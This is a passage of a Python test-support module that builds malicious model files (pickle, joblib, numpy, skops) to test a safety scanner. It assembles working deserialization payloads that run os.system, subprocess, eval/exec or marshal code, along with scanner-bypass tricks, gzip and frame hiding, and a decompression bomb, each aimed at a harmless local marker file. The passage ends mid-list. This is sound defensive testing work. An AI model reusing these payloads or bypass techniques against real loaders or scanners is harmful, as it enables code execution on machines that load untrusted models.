"""A corpus of malicious model files for the safety scanner: one case per technique.

Each case is a model file whose loading creates a marker file (or, for the network cases, opens
a connection to a local listener that creates it): `os.system('touch MARKER')`,
`open(MARKER, 'w')` and the like, reached every way public advisories and scanner bypasses
have shown (picklescan, modelscan, fickling, modelaudit; the references are on each case),
plus the joblib-, numpy- and compression-specific ways this project's scanner has to follow.
Pickles are assembled opcode by opcode where the technique needs it; elsewhere they are real
`pickle`, `joblib`, `numpy` and `skops` dumps of an object whose reduction is the payload.

`malicious_cases()` lists the cases. A case's `build(target)` returns the file's bytes, or a
writer `(path) -> None` for files that need a library or side files; `write_case` puts either
on disk, `build_corpus` writes many, one folder each (with a listener for network cases).
`run_loads` loads files with the real loaders (pickle, joblib, numpy, skops, this project's
loader), each in a forked child of one subprocess (`CONTROL_RUNNER`), and `load_corpus` builds
cases and loads them so: the tests use it to prove each payload is real (or, with the scan
bypassed, that this project's loader still refuses it), and never run a payload in their own
process.

Nothing here is a test, and importing this module needs neither numpy nor joblib.
"""

from __future__ import annotations

import gzip
import io
import json
import marshal
import os
import pickle
import shlex
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest

REPO = Path(__file__).resolve().parents[1]

Writer = Callable[[Path], None]
Payload = bytes | Writer
Outcome = dict[str, Any]  # a load's outcome, as CONTROL_RUNNER reports it


@dataclass(frozen=True)
class Target:
    """What a payload acts on: the marker file it creates, and the local port a network
    payload connects to (a listener there creates the marker)."""

    marker: Path
    port: int = 0

    @property
    def shell(self) -> str:
        return f"touch {shlex.quote(str(self.marker))}"

    @property
    def python(self) -> str:
        return f"open({str(self.marker)!r}, 'w').close()"


@dataclass(frozen=True)
class Case:
    """One technique.

    `globals`: the refused globals (module.name) the scan must name; empty where the scanner
    must refuse the file before it can reach any (a frame it cannot follow, a bomb).
    `codes`: finding codes the scan must also report.
    `control`: the loader that runs the payload (see CONTROL_RUNNER), None where no stock
    loader does. `setup`: Python the control runs first (an extension registration).
    `bypass`: what this project's loader does with the scan bypassed: "refused"
    (UnsafeModelError from its restricted unpickler), "fails" (another error, nothing ran),
    "loads" (it returns: its joblib semantics never read the payload), "skip".
    """

    name: str
    build: Callable[[Target], Payload]
    globals: tuple[str, ...] = ()
    codes: tuple[str, ...] = ()
    control: str | None = "pickle"
    setup: str = ""
    network: bool = False
    filename: str = "model.pkl"
    bypass: str = "refused"
    reference: str = ""


def write_case(case: Case, folder: Path, target: Target) -> Path:
    """Write the case's file into `folder` (plus any side files); returns its path."""
    path = folder / case.filename
    payload = case.build(target)
    if isinstance(payload, bytes):
        path.write_bytes(payload)
    else:
        payload(path)
    return path


# ---------------------------------------------------------------- opcode assembly

MARK = b"("
STOP = b"."
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
REDUCE = b"R"
BUILD = b"b"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
SETITEM = b"s"
SETITEMS = b"u"
APPEND = b"a"
DICT = b"d"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(body: bytes, claimed: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if claimed is None else claimed) + body


def text_global(module: str, name: str) -> bytes:
    """GLOBAL: protocol 0's text form (every protocol accepts it)."""
    return b"c" + (module + "\n" + name + "\n").encode("utf-8", "surrogatepass")


def ustr(text: str) -> bytes:
    """SHORT_BINUNICODE, or BINUNICODE when long (lone surrogates kept, as pickle does)."""
    data = text.encode("utf-8", "surrogatepass")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def sstr(text: str) -> bytes:
    """STRING: protocol 0's quoted text form."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def integer(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def sglobal(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): module and name pushed as strings first."""
    return ustr(module) + ustr(name) + STACK_GLOBAL


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with REDUCE; leaves the result on the stack."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def tuple_of(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def dict_of(*pairs: tuple[bytes, bytes]) -> bytes:
    return MARK + b"".join(k + v for k, v in pairs) + DICT


def whole(body: bytes, protocol: int = 4) -> bytes:
    """A complete pickle: header, body (leaving one object), STOP."""
    return (proto(protocol) if protocol >= 2 else b"") + body + STOP


def os_system(target: Target) -> bytes:
    """os.system('touch MARKER') with STACK_GLOBAL; leaves the exit status."""
    return call(sglobal("os", "system"), ustr(target.shell))


def os_system_text(target: Target) -> bytes:
    """os.system('touch MARKER') in protocol 0's text opcodes (GLOBAL, STRING)."""
    return call(text_global("os", "system"), sstr(target.shell))


def runs_python(module: str, name: str, *after: bytes) -> Callable[[Target], bytes]:
    """A whole pickle calling module.name(PYTHON SOURCE, *after) (STACK_GLOBAL)."""
    return lambda t: whole(call(sglobal(module, name), ustr(t.python), *after))


def runs_shell(module: str, name: str) -> Callable[[Target], bytes]:
    """A whole pickle calling module.name(SHELL COMMAND) (STACK_GLOBAL)."""
    return lambda t: whole(call(sglobal(module, name), ustr(t.shell)))


# ---------------------------------------------------------------- objects to dump


class ShellOnLoad:
    """An object whose reduction is os.system(command): what a malicious model's author
    dumps with pickle, joblib or numpy (os.system pickles as posix.system)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (self.command,))


def _object_array(target: Target) -> Any:
    import numpy as np

    holder = np.empty(2, dtype=object)
    holder[0] = "label"
    holder[1] = ShellOnLoad(target.shell)
    return holder


# ---------------------------------------------------------------- joblib assembly


def dtype_ops(spec: str, byteorder: str = "<", flags: int = 0) -> bytes:
    """numpy.dtype(spec, False, True) with the state numpy pickles."""
    state = tuple_of(
        integer(3),
        ustr(byteorder),
        NONE,
        NONE,
        NONE,
        b"J\xff\xff\xff\xff",
        b"J\xff\xff\xff\xff",
        integer(flags),
    )
    return (
        sglobal("numpy", "dtype")
        + ustr(spec)
        + NEWFALSE
        + NEWTRUE
        + TUPLE3
        + REDUCE
        + state
        + BUILD
    )


def wrapper_ops(
    shape: tuple[int, ...], spec: str, *, align: bool, byteorder: str = "<", flags: int = 0
) -> bytes:
    """A joblib NumpyArrayWrapper as joblib pickles it, up to its BUILD; joblib's loader
    reads the array's bytes right after."""
    items = [
        (ustr("subclass"), sglobal("numpy", "ndarray")),
        (ustr("shape"), tuple_of(*(integer(n) for n in shape))),
        (ustr("order"), ustr("C")),
        (ustr("dtype"), dtype_ops(spec, byteorder, flags)),
        (ustr("allow_mmap"), NEWFALSE),
    ]
    if align:
        items.append((ustr("numpy_array_alignment_bytes"), integer(16)))
    state = EMPTY_DICT + MARK + b"".join(k + v for k, v in items) + SETITEMS
    return (
        sglobal("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    )


def joblib_array_file(
    shape: tuple[int, ...], spec: str, data: bytes, after: bytes = b"", byteorder: str = "<"
) -> bytes:
    """A whole joblib file holding one array (no alignment), `after` run after its data."""
    wrapper = wrapper_ops(shape, spec, align=False, byteorder=byteorder)
    return proto(4) + wrapper + data + after + STOP


def zlib_zeros(prefix: bytes, chunks: int, suffix: bytes, chunk: int = 1 << 20) -> bytes:
    """zlib data of prefix + chunks × chunk zero bytes + suffix, built in milliseconds:
    after a full flush, deflate encodes each chunk of zeros to the same bytes, so one
    compressed chunk is repeated; the Adler-32 of the zeros is computed in closed form."""
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush()
    checksum = zlib.adler32(prefix)
    low, high = checksum & 0xFFFF, checksum >> 16
    high = (high + (chunks * chunk % 65521) * low) % 65521
    checksum = zlib.adler32(suffix, (high << 16) | low)
    return head + block * chunks + tail[:-4] + struct.pack(">I", checksum)


# ---------------------------------------------------------------- builders


def _joblib_dump(
    obj_of: Callable[[Target], object], compress: object = 0
) -> Callable[[Target], Payload]:
    def build(target: Target) -> Writer:
        def write(path: Path) -> None:
            import joblib

            joblib.dump(obj_of(target), path, compress=compress)

        return write

    return build


def _getattr_call(obj: bytes, attribute: str, *args: bytes) -> bytes:
    """getattr(obj, attribute)(*args): the call lands on something that is not a global."""
    return call(call(sglobal("builtins", "getattr"), obj, ustr(attribute)), *args)


def _payload_after_real_joblib_array(target: Target) -> Writer:
    def write(path: Path) -> None:
        import joblib
        import numpy as np

        weights = np.arange(8.0) * 1.5 + 0.25
        joblib.dump({"weights": weights}, path)
        data = path.read_bytes()
        raw = weights.tobytes()
        end = data.index(raw) + len(raw)
        path.write_bytes(data[:end] + os_system(target) + POP + data[end:])

    return write


def _wrapper_claims_fewer_bytes(target: Target) -> bytes:
    # The array really had 64 doubles; its wrapper now claims 2. joblib reads 16 bytes and
    # resumes where the payload was put: a scanner that trusted the array's real extent
    # would skip over it.
    floats = struct.pack("<64d", *range(64))
    payload = os_system(target) + POP
    return joblib_array_file((2,), "f8", floats[:16] + payload + binbytes(floats[16:]) + POP)


def _wrapper_dtype_is_wider(target: Target) -> bytes:
    # Two complex128 are 32 bytes. A scanner that took 8 bytes per item would resume at byte
    # 16 and read a BINBYTES that swallows the payload joblib runs at byte 32.
    payload = os_system(target)
    decoy = b"B" + struct.pack("<I", 11 + len(payload)) + bytes(11)
    data = struct.pack("<2d", 1.0, 2.0) + decoy
    assert len(data) == 32
    return joblib_array_file((2,), "c16", data, payload + POP)


def _alignment_padding_hides_pickle(target: Target) -> bytes:
    # joblib reads the padding byte (0x94: 148 bytes of padding) and skips the padding;
    # pickle.load reads 0x94 as MEMOIZE, then the payload hidden in the padding, then a
    # BINBYTES that swallows the rest of the padding and the array's 16 bytes.
    payload = os_system(target) + POP
    padding_length = 0x94
    filler = padding_length - len(payload) - 5
    assert filler >= 0, "marker path too long for the padding"
    padding = payload + b"B" + struct.pack("<I", filler + 16) + bytes(filler)
    data = struct.pack("<2d", 1.0, 2.0)
    return proto(4) + wrapper_ops((2,), "f8", align=True) + b"\x94" + padding + data + STOP


def _array_bytes_are_pickle(target: Target) -> bytes:
    # A uint8 array whose bytes are opcodes: joblib.load returns them as numbers, plain
    # pickle.load (a .pkl is loaded either way) runs them.
    data = os_system(target) + POP
    return joblib_array_file((len(data),), "u1", data, byteorder="|")


def _object_array_stops_inside_its_frame(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        # The object array's own pickle, one frame; the frame is made longer than the
        # pickle. The unpickler reads the whole frame, stops at STOP, and joblib resumes at
        # the frame's end; a reader resuming after STOP meets a BINBYTES that swallows the
        # payload.
        inner = pickle.dumps(np.array([1, 2], dtype=object), protocol=4)
        assert inner[2:3] == b"\x95"
        (length,) = struct.unpack("<Q", inner[3:11])
        assert len(inner) == 11 + length
        payload = os_system(target)
        extra = 64
        hidden = b"B" + struct.pack("<I", extra - 5 + len(payload)) + bytes(extra - 5)
        nested = inner[:3] + struct.pack("<Q", length + extra) + inner[11:] + hidden
        outer = proto(4) + wrapper_ops((2,), "O8", align=True, byteorder="|", flags=63)
        path.write_bytes(outer + nested + payload + POP + STOP)

    return write


def _wrapper_state(shape: tuple[int, ...], spec: str, *alignment: bytes) -> bytes:
    items = [
        (ustr("subclass"), sglobal("numpy", "ndarray")),
        (ustr("shape"), tuple_of(*(integer(n) for n in shape))),
        (ustr("order"), ustr("C")),
        (ustr("dtype"), dtype_ops(spec, "|")),
    ]
    items += [(ustr("numpy_array_alignment_bytes"), value) for value in alignment]
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in items) + SETITEMS


def _wrapper_made_by_calling_it(target: Target) -> bytes:
    # NumpyArrayWrapper(...) runs __init__, which sets numpy_array_alignment_bytes = 16; the
    # state does not mention it, so joblib reads a padding byte and padding first. A reader
    # of the state alone takes the padding byte for the array's one byte and resumes at a
    # SHORT_BINBYTES that swallows the payload joblib runs.
    payload = os_system(target) + POP
    wrapper = call(sglobal("joblib.numpy_pickle", "NumpyArrayWrapper"), NONE, NONE, NONE, NONE)
    after = bytes([5]) + b"C" + bytes([3 + 1 + len(payload)]) + b"xxx" + b"D" + payload
    return proto(4) + wrapper + _wrapper_state((1,), "u1") + BUILD + after + STOP


def _wrapper_made_by_reconstructor(target: Target) -> bytes:
    # copyreg._reconstructor(NumpyArrayWrapper, object, None) makes a wrapper without
    # naming the class as the callable: joblib still reads array data after its BUILD.
    payload = os_system(target) + POP
    wrapper = call(
        sglobal("copyreg", "_reconstructor"),
        sglobal("joblib.numpy_pickle", "NumpyArrayWrapper"),
        sglobal("builtins", "object"),
        NONE,
    )
    state = _wrapper_state((2,), "u1", NONE)
    return proto(4) + wrapper + state + BUILD + b"C" + bytes([len(payload)]) + payload + STOP


def _truncated_global_imports(target: Target) -> Writer:
    def write(path: Path) -> None:
        (path.parent / "truncated_payload_module.py").write_text(target.python + "\n")
        path.write_bytes(b"ctruncated_payload_module\nx")

    return write


def _ndarraywrapper_side_file(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        with (path.parent / "side.npy").open("wb") as handle:
            np.save(handle, _object_array(target), allow_pickle=True)
        state = dict_of(
            (ustr("filename"), ustr("side.npy")),
            (ustr("subclass"), text_global("numpy", "ndarray")),
            (ustr("allow_mmap"), NEWFALSE),
        )
        wrapper = text_global("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
        path.write_bytes(whole(wrapper + state + BUILD, 2))

    return write


def _npy(obj_of: Callable[[Target], Any]) -> Callable[[Target], Payload]:
    def build(target: Target) -> Writer:
        def write(path: Path) -> None:
            import numpy as np

            with path.open("wb") as handle:
                np.save(handle, obj_of(target), allow_pickle=True)

        return write

    return build


def _npy_descr_spelled_out(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        buffer = io.BytesIO()
        np.save(buffer, _object_array(target), allow_pickle=True)
        data = buffer.getvalue()
        (header_length,) = struct.unpack("<H", data[8:10])
        header = "{'descr': 'object', 'fortran_order': False, 'shape': (2,), }"
        header = header.ljust(header_length - 1) + "\n"
        path.write_bytes(data[:10] + header.encode("latin1") + data[10 + header_length :])

    return write


def _npy_pickle_with_joblib_wrapper(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        # numpy.load reads an object array's data with pickle.load: a NumpyArrayWrapper in
        # it is just an object, and the "array data" after it is opcodes.
        buffer = io.BytesIO()
        np.save(buffer, np.empty(1, dtype=object), allow_pickle=True)
        data = buffer.getvalue()
        (header_length,) = struct.unpack("<H", data[8:10])
        payload = os_system(target) + POP
        pickled = proto(4) + wrapper_ops((len(payload),), "u1", align=False) + payload + STOP
        path.write_bytes(data[: 10 + header_length] + pickled)

    return write


def _npz_member(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        with path.open("wb") as handle:
            np.savez(handle, weights=np.arange(3.0), labels=_object_array(target))

    return write


def _gzip_second_member(target: Target) -> bytes:
    # gzip readers read concatenated members as one stream: the payload is split across
    # them, so no single member holds a whole malicious pickle. (joblib.load does not
    # finish on such a file: its zlib reader feeds the first member's leftover back into a
    # finished decompressor, forever; pickle.load(gzip.open(...)) runs it.)
    data = whole(os_system(target))
    cut = len(data) // 2
    return gzip.compress(data[:cut]) + gzip.compress(data[cut:])


def _gzip_member_after_a_valid_one(target: Target) -> bytes:
    # A complete, clean gzip member, then a second member holding a malicious pickle: one
    # load stops after the first; a reader that loads until the end runs the second.
    return gzip.compress(whole(ustr("benign model"))) + gzip.compress(whole(os_system(target)))


def _legacy_zfile(target: Target) -> bytes:
    data = whole(os_system_text(target), 2)
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


def _decompression_bomb(target: Target) -> bytes:
    # A joblib zlib file: BINBYTES8 of 2 GiB of zeros, then the payload. 2 MiB on disk.
    chunks = 2048
    prefix = proto(4) + b"\x8e" + struct.pack("<Q", chunks << 20)
    return zlib_zeros(prefix, chunks, POP + os_system(target) + STOP)


def _skops_untrusted_type(target: Target) -> Writer:
    module = "skops_payload_module"

    def write(path: Path) -> None:
        import skops.io

        # The class lives in a module beside the file; loading with its type trusted
        # imports the module (which creates the marker) and calls __setstate__ (which does).
        source = (
            f"open({str(target.marker)!r}, 'w').close()\n\n"
            "class Estimator:\n"
            "    def __setstate__(self, state):\n"
            f"        open({str(target.marker)!r}, 'w').close()\n"
        )
        (path.parent / f"{module}.py").write_text(source)
        cls = type("Estimator", (), {"__module__": module})
        instance = cls()
        instance.coef = [1.0, 2.0]
        skops.io.dump(instance, path)

    return write


def _skops_with_npy_member(target: Target) -> Writer:
    def write(path: Path) -> None:
        import zipfile

        import numpy as np
        import skops.io
        from sklearn.linear_model import LinearRegression

        # A clean skops file, plus a member numpy.load (which opens any zip as an .npz)
        # unpickles: skops' own audit never looks at it.
        model = LinearRegression().fit(np.arange(6.0).reshape(3, 2), np.arange(3.0))
        skops.io.dump(model, path)
        buffer = io.BytesIO()
        np.save(buffer, _object_array(target), allow_pickle=True)
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("extra.npy", buffer.getvalue())

    return write


def _runpy_run_path(target: Target) -> Writer:
    def write(path: Path) -> None:
        script = path.parent / "payload_script.py"
        script.write_text(target.python + "\n")
        path.write_bytes(whole(call(sglobal("runpy", "run_path"), ustr(str(script)))))

    return write


def _sys_path_append(target: Target) -> Writer:
    def write(path: Path) -> None:
        (path.parent / "payload_module.py").write_text(target.python + "\nvalue = 1\n")
        body = (
            sglobal("sys", "path")
            + ustr(str(path.parent))
            + APPEND
            + POP
            + sglobal("payload_module", "value")
        )
        path.write_bytes(whole(body))

    return write


def _joblib_load_gadget(target: Target) -> Writer:
    def write(path: Path) -> None:
        side = path.parent / "side.pkl"
        side.write_bytes(whole(os_system(target)))
        path.write_bytes(whole(call(sglobal("joblib", "load"), ustr(str(side)))))

    return write


def _numpy_load_gadget(target: Target) -> Writer:
    def write(path: Path) -> None:
        import numpy as np

        side = path.parent / "side.npy"
        with side.open("wb") as handle:
            np.save(handle, _object_array(target), allow_pickle=True)
        body = call(sglobal("numpy", "load"), ustr(str(side)), NONE, NEWTRUE)
        path.write_bytes(whole(body))

    return write


def _marshal_function(target: Target) -> bytes:
    code = compile(target.python, "<payload>", "exec")
    function = call(
        sglobal("types", "FunctionType"),
        call(sglobal("marshal", "loads"), binbytes(marshal.dumps(code))),
        EMPTY_DICT,
    )
    return whole(function + EMPTY_TUPLE + REDUCE)


def _build_class_setstate(target: Target) -> bytes:
    # BUILD's slot state setattr()s on whatever is on the stack: here a class (one without
    # a __setstate__ of its own), whose __setstate__ becomes os.system; the next BUILD on
    # an instance then calls os.system(state).
    module, cls = "argparse", "Namespace"
    poison = (
        sglobal(module, cls)
        + NONE
        + dict_of((ustr("__setstate__"), sglobal("os", "system")))
        + TUPLE2
        + BUILD
        + POP
    )
    instance = sglobal(module, cls) + EMPTY_TUPLE + NEWOBJ + ustr(target.shell) + BUILD
    return whole(poison + instance)


def _build_attributes_then_dotted_fetch(target: Target) -> bytes:
    # modelscan#85: BUILD sets attributes on a global function, a dotted global reads them
    # back, PUT/GET keep them in the memo, STACK_GLOBAL assembles os.system from the memo.
    holder = sglobal("sklearn.base", "clone")
    strings = NONE + dict_of((ustr("m"), ustr("os")), (ustr("n"), ustr("system"))) + TUPLE2
    body = (
        holder
        + strings
        + BUILD
        + POP
        + sglobal("sklearn.base", "clone.m")
        + b"p0\n"
        + POP
        + sglobal("sklearn.base", "clone.n")
        + b"p1\n"
        + POP
        + b"g0\ng1\n"
        + STACK_GLOBAL
        + MARK
        + ustr(target.shell)
        + TUPLE
        + REDUCE
    )
    return whole(body)


def _sys_modules_alias(target: Target) -> bytes:
    # sys.modules["sklearn.payload"] = os; then "sklearn.payload" "system" is os.system:
    # a module-prefix allow-list ("anything from sklearn") would pass it.
    body = (
        sglobal("sys", "modules")
        + ustr("sklearn.payload")
        + sglobal("posixpath", "os")
        + SETITEM
        + POP
        + call(sglobal("sklearn.payload", "system"), ustr(target.shell))
    )
    return whole(body)


def _memo_stack_global_names(target: Target) -> bytes:
    # picklescan#22: names stored in the memo, padding pushed, names fetched back for
    # STACK_GLOBAL: a scanner that reads STACK_GLOBAL's names from the preceding string
    # literals sees 'numpy' and 'dtype'.
    body = (
        ustr("os")
        + MEMOIZE
        + POP
        + ustr("system")
        + MEMOIZE
        + POP
        + ustr("numpy")
        + ustr("dtype")
        + POP
        + POP
        + b"h\x00h\x01"
        + STACK_GLOBAL
        + MARK
        + ustr(target.shell)
        + TUPLE
        + REDUCE
    )
    return whole(body)


def _frame_straddle(target: Target) -> bytes:
    # A FRAME of 3 bytes, then an 11-byte opcode: joblib's Python unpickler stops there,
    # pickle.load (the C unpickler ignores frames) reads on and runs the payload.
    return proto(4) + frame(sstr("padding") + POP + os_system(target) + STOP, claimed=3)


def _frame_nested(target: Target) -> bytes:
    # A second FRAME starts 6 bytes before the first one ends.
    first = ustr("abc") + POP
    return proto(4) + frame(first, claimed=len(first) + 6) + frame(os_system(target) + STOP)


def _frame_longer_than_data(target: Target) -> bytes:
    body = os_system(target) + STOP
    return proto(4) + frame(body, claimed=len(body) + 4096)


def _trailing_pickle(target: Target) -> bytes:
    return whole(ustr("benign model"), 4) + whole(os_system(target), 4)


# Each EXT opcode, its code's width, and the code the corpus registers os.system under.
EXTENSIONS = {
    "EXT1": (b"\x82", "<B", 0xE1),
    "EXT2": (b"\x83", "<H", 0x1E2E),
    "EXT4": (b"\x84", "<i", 0x1234567),
}


def extension_call(ext: str, code: int, target: Target) -> bytes:
    """A protocol-2 pickle calling extension `code` (os.system, once registered) with the
    shell command: `ext` is "EXT1", "EXT2" or "EXT4"."""
    opcode, width, _ = EXTENSIONS[ext]
    return whole(call(opcode + struct.pack(width, code), ustr(target.shell)), 2)


def _ext_setup(code: int) -> str:
    return f"import copyreg; copyreg.add_extension('os', 'system', {code})"


# ---------------------------------------------------------------- the corpus


def by_name(cases: list[Case]) -> pytest.MarkDecorator:
    """pytest.mark.parametrize over cases, each test named after its case."""
    return pytest.mark.parametrize("case", cases, ids=[case.name for case in cases])


def malicious_cases() -> list[Case]:
    """Every case, each with a unique name."""
    PS = "https://github.com/mmaitre314/picklescan"
    MS = "https://github.com/protectai/modelscan"
    FK = "https://github.com/trailofbits/fickling"
    cases = [
        # ---- direct calls
        Case(
            "os_system_global_opcode",
            lambda t: whole(os_system_text(t), 0),
            ("os.system",),
            reference="the classic __reduce__ payload",
        ),
        Case(
            "posix_system_stack_global",
            runs_shell("posix", "system"),
            ("posix.system",),
            reference="what pickle writes for os.system",
        ),
        Case(
            "subprocess_popen",
            lambda t: whole(
                call(
                    sglobal("subprocess", "Popen"), tuple_of(ustr("sh"), ustr("-c"), ustr(t.shell))
                )
            ),
            ("subprocess.Popen",),
        ),
        Case(
            "subprocess_check_output",
            lambda t: whole(
                call(
                    sglobal("subprocess", "check_output"),
                    tuple_of(ustr("touch"), ustr(str(t.marker))),
                )
            ),
            ("subprocess.check_output",),
        ),
        Case(
            "uuid_get_command_stdout",
            lambda t: whole(
                call(sglobal("uuid", "_get_command_stdout"), ustr("touch"), ustr(str(t.marker)))
            ),
            ("uuid._get_command_stdout",),
            reference=f"{FK}/security/advisories/GHSA-5hwf-rc88-82xm",
        ),
        Case(
            "builtins_eval",
            runs_python("builtins", "eval"),
            ("builtins.eval",),
        ),
        Case(
            "builtins_exec",
            runs_python("builtins", "exec"),
            ("builtins.exec",),
        ),
        Case(
            "builtins_compile_then_function",
            lambda t: whole(
                call(
                    sglobal("types", "FunctionType"),
                    call(sglobal("builtins", "compile"), ustr(t.python), ustr("<p>"), ustr("exec")),
                    EMPTY_DICT,
                )
                + EMPTY_TUPLE
                + REDUCE
            ),
            ("builtins.compile", "types.FunctionType"),
            ("indirect-call",),
        ),
        Case(
            "numpy_f2py_eval",
            runs_python("numpy.f2py.crackfortran", "_eval_scalar", EMPTY_DICT),
            ("numpy.f2py.crackfortran._eval_scalar",),
            reference=f"{FK}/pull/210 (numpy.f2py eval gadgets)",
        ),
        # ---- reaching a callable indirectly
        Case(
            "getattr_on_module_attribute",
            lambda t: whole(_getattr_call(sglobal("posixpath", "os"), "system", ustr(t.shell))),
            ("builtins.getattr", "posixpath.os"),
            ("indirect-call",),
        ),
        Case(
            "builtins_import_then_getattr",
            lambda t: whole(
                _getattr_call(
                    call(sglobal("builtins", "__import__"), ustr("os")), "system", ustr(t.shell)
                )
            ),
            ("builtins.__import__", "builtins.getattr"),
            ("indirect-call",),
        ),
        Case(
            "importlib_import_module",
            lambda t: whole(
                _getattr_call(
                    call(sglobal("importlib", "import_module"), ustr("os")), "system", ustr(t.shell)
                )
            ),
            ("importlib.import_module", "builtins.getattr"),
            ("indirect-call",),
            reference=f"{MS}/issues/331",
        ),
        Case(
            "pkgutil_resolve_name",
            lambda t: whole(
                call(call(sglobal("pkgutil", "resolve_name"), ustr("os:system")), ustr(t.shell))
            ),
            ("pkgutil.resolve_name",),
            ("indirect-call",),
            reference=f"{PS}/security/advisories/GHSA-vvpj-8cmc-gx39",
        ),
        Case(
            "runpy_run_path",
            _runpy_run_path,
            ("runpy.run_path",),
        ),
        Case(
            "runpy_run_code",
            runs_python("runpy", "_run_code", EMPTY_DICT),
            ("runpy._run_code",),
        ),
        Case(
            "timeit_setup_code",
            lambda t: whole(call(sglobal("timeit", "timeit"), ustr("pass"), ustr(t.python))),
            ("timeit.timeit",),
            reference="GHSA-v7x6-rv5q-mhwc (picklescan: timeit.timeit)",
        ),
        Case(
            "cprofile_run",
            runs_python("cProfile", "run"),
            ("cProfile.run",),
            reference=f"{PS}/security/advisories/GHSA-46h3-79wf-xr6c",
        ),
        Case(
            "profile_run",
            runs_python("profile", "run"),
            ("profile.run",),
            reference=f"{PS}/security/advisories/GHSA-7wx9-6375-f5wh",
        ),
        Case(
            "pdb_run",
            runs_python("pdb", "run"),
            ("pdb.run",),
            reference=f"{PS}/security/advisories/GHSA-4675-36f9-wf6r",
        ),
        Case(
            "operator_attrgetter",
            lambda t: whole(
                call(
                    call(
                        call(sglobal("operator", "attrgetter"), ustr("system")),
                        sglobal("posixpath", "os"),
                    ),
                    ustr(t.shell),
                )
            ),
            ("operator.attrgetter", "posixpath.os"),
            ("indirect-call",),
            reference=f"{PS}/security/advisories/GHSA-m273-6v24-x4m4",
        ),
        Case(
            "operator_methodcaller",
            lambda t: whole(
                call(
                    call(sglobal("_operator", "methodcaller"), ustr("system"), ustr(t.shell)),
                    sglobal("posixpath", "os"),
                )
            ),
            ("_operator.methodcaller", "posixpath.os"),
            ("indirect-call",),
            reference=f"{PS}/security/advisories/GHSA-955r-x9j8-7rhh",
        ),
        Case(
            "functools_partial",
            lambda t: whole(
                call(sglobal("functools", "partial"), sglobal("os", "system"), ustr(t.shell))
                + EMPTY_TUPLE
                + REDUCE
            ),
            ("functools.partial", "os.system"),
            ("indirect-call",),
        ),
        Case(
            "functools_reduce_exec",
            lambda t: whole(
                call(
                    sglobal("functools", "reduce"),
                    sglobal("builtins", "exec"),
                    EMPTY_LIST + EMPTY_DICT + APPEND,
                    ustr(t.python),
                )
            ),
            ("functools.reduce", "builtins.exec"),
        ),
        Case(
            "nested_pickle_loads",
            lambda t: whole(call(sglobal("pickle", "loads"), binbytes(whole(os_system(t))))),
            ("pickle.loads",),
            reference=f"{PS}/security/advisories/GHSA-84r2-jw7c-4r5q",
        ),
        Case(
            "nested__pickle_loads",
            lambda t: whole(call(sglobal("_pickle", "loads"), binbytes(whole(os_system(t))))),
            ("_pickle.loads",),
        ),
        Case(
            "nested_pickle_zlib_obfuscated",
            lambda t: whole(
                call(
                    sglobal("pickle", "loads"),
                    call(
                        sglobal("zlib", "decompress"), binbytes(zlib.compress(whole(os_system(t))))
                    ),
                )
            ),
            ("pickle.loads", "zlib.decompress"),
            reference=f"{MS}/issues/338 (zlib obfuscation)",
        ),
        Case(
            "marshal_function",
            _marshal_function,
            ("types.FunctionType", "marshal.loads"),
            ("indirect-call",),
            reference=f"{FK}/security/advisories/GHSA-565g-hwwr-4pp3",
        ),
        Case(
            "socket_create_connection",
            lambda t: whole(
                call(
                    sglobal("socket", "create_connection"),
                    tuple_of(ustr("127.0.0.1"), integer(t.port)),
                )
            ),
            ("socket.create_connection",),
            network=True,
            reference=f"{FK}/issues/16",
        ),
        Case(
            "urllib_urlopen",
            lambda t: whole(
                call(sglobal("urllib.request", "urlopen"), ustr(f"http://127.0.0.1:{t.port}/"))
            ),
            ("urllib.request.urlopen",),
            network=True,
            reference=f"{PS}/security/advisories/GHSA-hgrh-qx5j-jfwx",
        ),
        # ---- files
        Case(
            "builtins_open",
            lambda t: whole(call(sglobal("builtins", "open"), ustr(str(t.marker)), ustr("w"))),
            ("builtins.open",),
        ),
        Case(
            "shutil_copy",
            lambda t: whole(call(sglobal("shutil", "copy"), ustr(os.devnull), ustr(str(t.marker)))),
